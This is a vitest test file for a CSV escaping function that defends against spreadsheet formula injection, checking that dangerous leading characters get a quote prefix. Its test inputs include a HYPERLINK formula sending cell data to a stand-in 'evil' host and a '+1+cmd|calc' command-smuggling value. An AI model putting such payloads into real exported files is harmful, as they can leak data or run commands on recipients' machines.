import { describe, expect, it } from 'vitest';
import { csvCell, csvLines } from '../../src/text/csv.js';

// Issue 11, item 3: CSV formula injection. OWASP's advice: a cell that starts with
// = + - @ TAB or CR (also after leading whitespace) gets a leading single quote, quoted.
describe('csvCell', () => {
  it.each([
    ['formula', '=HYPERLINK("http://evil/?"&A1,"Click")', `"'=HYPERLINK(""http://evil/?""&A1,""Click"")"`],
    ['plus', '+1+cmd|calc', `"'+1+cmd|calc"`],
    ['minus', '-2+3', `"'-2+3"`],
    ['at', '@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['tab', '\t=1+1', `"'\t=1+1"`],
    ['carriage return', '\r=1+1', `"'\r=1+1"`],
    ['after leading spaces', '   =1+1', `"'   =1+1"`],
    ['after a leading newline', '\n@x', `"'\n@x"`],
    ['dash bullet in prose', '- Huawei said 5 GW.', `"'- Huawei said 5 GW."`],
    ['a negative number stays a number', '-12.5', '-12.5'],
    ['a signed number stays a number', '+3', '+3'],
    ['an exponent stays a number', '-1e6', '-1e6'],
    ['a plain number', '42', '42'],
    ['an ISO date', '2025-03-01T01:30:00Z', '2025-03-01T01:30:00Z'],
    ['an equals sign later is harmless', 'a=b', 'a=b'],
    ['comma is quoted', 'a, b', '"a, b"'],
    ['quotes doubled', 'say "hi"', '"say ""hi"""'],
    ['empty', '', ''],
  ])('%s', (_name, input, want) => {
    expect(csvCell(input)).toBe(want);
  });

  it('csvLines joins cells and rows', () => {
    expect(csvLines([['id', 'text'], ['1', '=1+1']])).toBe(`id,text\n1,"'=1+1"\n`);
  });
});
